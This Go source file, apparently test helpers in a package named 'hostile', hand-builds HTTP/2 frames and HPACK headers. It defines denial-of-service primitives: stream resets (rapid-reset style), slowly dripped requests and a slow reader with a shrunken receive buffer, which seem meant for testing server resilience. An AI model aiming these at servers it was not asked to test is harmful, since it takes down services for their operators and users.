package hostile

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strings"
	"syscall"
	"time"
)

// Frames of HTTP/2: RFC 9113, section 6.
const (
	frameData         = 0
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	framePing         = 6
	frameWindow       = 8
	frameContinuation = 9

	endStream  = 1
	endHeaders = 4

	preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
)

func frame(kind, flags byte, stream uint32, payload string) string {
	n := len(payload)
	head := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}
	return string(binary.BigEndian.AppendUint32(head, stream)) + payload
}

// fields packs headers as literals that are not to be indexed: RFC 7541, section 6.2.2.
func fields(pairs ...string) string {
	var b []byte
	for i, text := range pairs {
		if i%2 == 0 {
			b = append(b, 0)
		}
		if n := len(text); n < 127 {
			b = append(b, byte(n))
		} else {
			b = binary.AppendUvarint(append(b, 127), uint64(n-127))
		}
		b = append(b, text...)
	}
	return string(b)
}

func post(stream uint32, more ...string) string {
	head := fields(append([]string{":method", "POST", ":scheme", "http", ":path", "/attack", ":authority", "a"}, more...)...)
	return frame(frameHeaders, endHeaders, stream, head)
}

func reset(stream uint32) string { return frame(frameReset, 0, stream, "\x00\x00\x00\x08") }

// dial connects, and hangs up when ctx ends.
func dial(ctx context.Context, address string) (net.Conn, error) {
	c, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, "tcp", address)
	if err == nil {
		context.AfterFunc(ctx, func() { _ = c.Close() })
	}
	return c, err
}

// second connects by HTTP/2, and takes in what comes.
func second(ctx context.Context, address string, settings string) (net.Conn, error) {
	c, err := dial(ctx, address)
	if err != nil {
		return nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, c) }()
	_, err = io.WriteString(c, preface+frame(frameSettings, 0, 0, settings))
	return c, err
}

// every does something each so often until ctx ends.
func every(ctx context.Context, d time.Duration, do func(i int)) {
	ticks := time.NewTicker(d)
	defer ticks.Stop()
	for i := 0; ; i++ {
		select {
		case <-ctx.Done():
			return
		case <-ticks.C:
			do(i)
		}
	}
}

// drip sends text, and then a piece after each d, until ctx ends.
func drip(ctx context.Context, c net.Conn, text, piece string, d time.Duration) {
	if _, err := io.WriteString(c, text); err != nil {
		return
	}
	every(ctx, d, func(int) {
		if piece != "" {
			_, _ = io.WriteString(c, piece) // it may have been hung up on
		}
	})
}

// slowReader has the kernel keep as little as it can of what is not read.
func slowReader(ctx context.Context, address, path string) {
	d := net.Dialer{Timeout: 5 * time.Second, Control: func(_, _ string, c syscall.RawConn) error {
		return c.Control(func(fd uintptr) { _ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 1<<10) })
	}}
	c, err := d.DialContext(ctx, "tcp", address)
	if err != nil {
		return
	}
	defer c.Close()
	context.AfterFunc(ctx, func() { _ = c.Close() })
	fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: a\r\n\r\n", path)
	every(ctx, time.Second, func(int) {
		if n, _ := c.Read(make([]byte, 300)); n == 0 {
			_ = c.Close()
		}
	})
}

func many(n int, text string) string { return strings.Repeat(text, n) }
